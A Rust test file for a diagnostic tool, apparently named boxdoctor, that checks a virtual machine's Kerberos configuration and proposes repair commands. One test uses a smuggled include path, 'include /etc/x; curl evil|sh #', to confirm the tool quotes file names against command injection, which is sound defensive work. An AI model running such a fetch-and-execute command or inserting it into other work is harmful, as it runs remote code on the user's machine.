//! A guest's Kerberos configuration: what is not looked at, what works, and what is typed to mend it.

use boxdoctor::check::Severity;
use boxdoctor::diagnosis::{Finding, Status, diagnose};
use boxdoctor::facts::Facts;
use boxdoctor::observe::{Examination, Observation, Side::Guest};
use boxdoctor::remedy;
use boxdoctor::target::{Kind, Target};

const REALM: &str = "[libdefaults]
 default_realm = R.COM
 dns_lookup_kdc = false
[realms]
 R.COM = {
  kdc = kdc.r.com
 }
";

const NO_SERVER: &str = "[libdefaults]\n default_realm = R.COM\n dns_lookup_kdc = false\n";

const VALID: &str = "status 0\n\nTicket cache: FILE:/tmp/krb5cc_1000\nDefault principal: anna@R.COM\n\nValid starting       Expires              Service principal\n05/07/2025 08:00:00  05/07/2025 18:00:00  krbtgt/R.COM@R.COM\n";

/// A guest in which these were seen.
fn guest(seen: &[(&str, &str)]) -> Facts {
    let mut examination = Examination::begin(Target::running("default", Kind::Vagrant));
    let seen = seen.iter().map(|(id, said)| {
        let command = match *id {
            "krb5-conf" => "cat /etc/krb5.conf",
            id => id,
        };
        Observation::answered(id, Guest, command.to_owned(), said.as_bytes().to_vec())
    });
    examination.observations = seen.collect();
    Facts::read(&examination)
}

/// What the guest says of one file or folder beside /etc/krb5.conf.
fn record(word: &str, path: &str, content: &str) -> String {
    format!(
        "{word} {} {}\n{path}\n{content}\n",
        path.len(),
        content.len()
    )
}

fn found(facts: &Facts, slug: &str) -> Finding {
    let findings = diagnose(facts, |check| check.slug.starts_with("krb5-"));
    let mut of_slug = findings
        .into_iter()
        .filter(|finding| finding.check.slug == slug);
    of_slug.next().expect("every check comes to something")
}

/// What is typed for the first remedy of a finding.
fn cure(facts: &Facts, slug: &str) -> Vec<String> {
    let finding = found(facts, slug);
    let failure = finding.failure().expect("it fails");
    let remedy = remedy::find(failure.remedies[0]).expect("it is in the list");
    (remedy.how)(facts)
}

fn is_pass(facts: &Facts, slug: &str) -> bool {
    matches!(found(facts, slug).status, Status::Pass)
}

#[test]
fn the_name_of_a_file_that_was_not_looked_at_is_one_word_of_the_command() {
    let conf = format!("include /etc/x; curl evil|sh #\n{REALM}");
    let facts = guest(&[("krb5-conf", &conf)]);
    let Status::Unknown { decide_with, .. } = found(&facts, "krb5-include").status else {
        panic!("what was not looked at is unknown");
    };
    assert!(
        decide_with.ends_with("cat '/etc/x; curl evil|sh #'"),
        "{decide_with}"
    );
}

#[test]
fn what_was_not_looked_at_is_told_once() {
    let conf = format!("includedir /etc/krb5.conf.d/\n{REALM}");
    let facts = guest(&[("krb5-conf", &conf)]);
    let unknown: Vec<&str> = diagnose(&facts, |check| check.slug.starts_with("krb5-"))
        .iter()
        .filter(|finding| match &finding.status {
            Status::Unknown { reason, .. } => reason.contains("krb5.conf.d"),
            _ => false,
        })
        .map(|finding| finding.check.slug)
        .collect();
    assert_eq!(unknown, ["krb5-include"]);
}

#[test]
fn a_file_too_large_for_boxdoctor_is_no_fault_of_kerberos() {
    let conf = format!("include /etc/hosts.conf\n{REALM}");
    let files = record("large", "/etc/hosts.conf", "");
    let included = guest(&[("krb5-conf", &conf), ("krb5-files", &files)]);
    let files = record("set", "", "/opt/krb5.conf") + &record("large", "/opt/krb5.conf", "");
    let itself = guest(&[("krb5-files", &files)]);
    for facts in [included, itself] {
        let status = found(&facts, "krb5-include").status;
        let Status::Unknown { reason, .. } = status else {
            panic!("nobody knows what it holds");
        };
        assert!(
            reason.contains("larger than what boxdoctor reads"),
            "{reason}"
        );
    }
}

#[test]
fn the_file_that_is_wrong_is_the_one_to_edit() {
    let conf = format!("includedir /etc/krb5.conf.d/\n{REALM}");
    let files = record("folder", "/etc/krb5.conf.d/", "life/")
        + &record(
            "file",
            "/etc/krb5.conf.d//life",
            "[libdefaults]\n ticket_lifetime = 24H\n",
        );
    let included = guest(&[("krb5-conf", &conf), ("krb5-files", &files)]);
    let typed = cure(&included, "krb5-lifetime");
    assert_eq!(typed[1], "sudo vi /etc/krb5.conf.d//life", "{typed:?}");

    let files = record("set", "", "/a:/b")
        + &record(
            "file",
            "/a",
            "[libdefaults]\n default_realm = R.COM\n clockskew = 1h\n",
        )
        + &record("file", "/b", "[realms]\n R.COM = {\n  kdc = k:88 # c\n }\n");
    let two = guest(&[("krb5-files", &files)]);
    let typed = cure(&two, "krb5-realm-kdc");
    let edited: Vec<&String> = typed.iter().filter(|line| line.contains(" vi ")).collect();
    assert_eq!(edited, ["sudo vi /a", "sudo vi /b"]);
}

#[test]
fn an_included_file_that_nobody_may_read_is_opened_and_not_edited() {
    let conf = format!("include /etc/site.conf\n{REALM}");
    let files = record("denied", "/etc/site.conf", "");
    let facts = guest(&[("krb5-conf", &conf), ("krb5-files", &files)]);
    assert_eq!(
        cure(&facts, "krb5-include"),
        ["sudo chmod a+r /etc/site.conf"]
    );
}

#[test]
fn a_realm_of_ones_own_may_be_called_example_com() {
    let conf = REALM
        .replace("R.COM", "EXAMPLE.COM")
        .replace("kdc.r.com", "192.168.33.10:88 # c");
    let facts = guest(&[("krb5-conf", &conf)]);
    assert!(found(&facts, "krb5-realm-kdc").failure().is_some());
}

#[test]
fn a_guest_with_a_valid_ticket_of_the_realm_has_found_its_server() {
    let accused = |tickets: &str| {
        let facts = guest(&[("krb5-conf", NO_SERVER), ("krb5-tickets", tickets)]);
        !is_pass(&facts, "krb5-realm-kdc")
    };
    assert!(!accused(VALID));
    assert!(accused(&VALID.replace("R.COM", "S.COM")));
    assert!(accused(&VALID.replace("status 0", "status 1")));
}

#[test]
fn whoever_names_the_realm_each_time_needs_no_default_one() {
    let conf = "[realms]\n R.COM = {\n  kdc = kdc.r.com\n }\n";
    let works = guest(&[("krb5-conf", conf), ("krb5-tickets", VALID)]);
    assert!(found(&works, "krb5-default-realm").failure().is_none());
    let is_seen = |conf: &str| {
        let facts = guest(&[("krb5-conf", conf)]);
        let finding = found(&facts, "krb5-default-realm");
        finding.failure().map(|failure| failure.severity)
    };
    assert_eq!(is_seen(conf), Some(Severity::Warning));
    let slip = format!("[libdefaults]\n default_relam = R.COM\n{conf}");
    assert_eq!(is_seen(&slip), Some(Severity::Error));
}

#[test]
fn servers_may_be_told_by_a_plug_in() {
    for also in [
        "[plugins]\n locate = {\n  module = x:/x.so\n }\n",
        "includedir /var/lib/sss/pubconf/krb5.include.d/\n",
    ] {
        let files = record("folder", "/var/lib/sss/pubconf/krb5.include.d/", "");
        let conf = format!("{NO_SERVER}{also}");
        let facts = guest(&[("krb5-conf", &conf), ("krb5-files", &files)]);
        let status = found(&facts, "krb5-realm-kdc").status;
        assert!(matches!(status, Status::Unknown { .. }), "{also}");
    }
}

#[test]
fn only_a_folder_that_was_meant_is_made() {
    for (path, made) in [
        (
            "/etc/krb5.conf.d/",
            &["sudo mkdir -p /etc/krb5.conf.d/"][..],
        ),
        ("/etc/krb5.conf.d # ours", &[]),
        ("'/etc/krb5.conf.d'", &[]),
        ("krb5.conf.d", &[]),
    ] {
        let conf = format!("includedir {path}\n{REALM}");
        let files = record("missing", path, "");
        let facts = guest(&[("krb5-conf", &conf), ("krb5-files", &files)]);
        assert_eq!(cure(&facts, "krb5-include"), made, "{path}");
    }
}

#[test]
fn the_file_that_may_not_be_read_is_the_evidence() {
    let files = record("set", "", "/opt/krb5.conf") + &record("denied", "/opt/krb5.conf", "");
    let facts = guest(&[("krb5-files", &files)]);
    let finding = found(&facts, "krb5-include");
    let failure = finding.failure().expect("it may not be read");
    assert_eq!(failure.evidence[0].source, "guest: /opt/krb5.conf");
}

#[test]
fn an_old_release_is_given_a_name_that_counts_in_it() {
    let conf = format!("includedir /etc/krb5.conf.d\n{REALM}");
    let files = record("folder", "/etc/krb5.conf.d", "corp.example.conf/");
    let old = "PRETTY_NAME=\"CentOS 6\"\nID=centos\nVERSION_ID=6\n";
    let facts = guest(&[
        ("krb5-conf", &conf),
        ("krb5-files", &files),
        ("os-release", old),
    ]);
    assert_eq!(
        cure(&facts, "krb5-include"),
        ["sudo mv -n /etc/krb5.conf.d/corp.example.conf /etc/krb5.conf.d/corp_example"]
    );
}

#[test]
fn dns_may_name_the_realm_by_either_setting() {
    for setting in ["dns_lookup_realm", "dns_fallback"] {
        let conf =
            format!("[libdefaults]\n {setting} = yes\n[realms]\n R.COM = {{\n  kdc = k\n }}\n");
        let facts = guest(&[("krb5-conf", &conf)]);
        let status = found(&facts, "krb5-default-realm").status;
        assert!(matches!(status, Status::Unknown { .. }), "{setting}");
    }
}
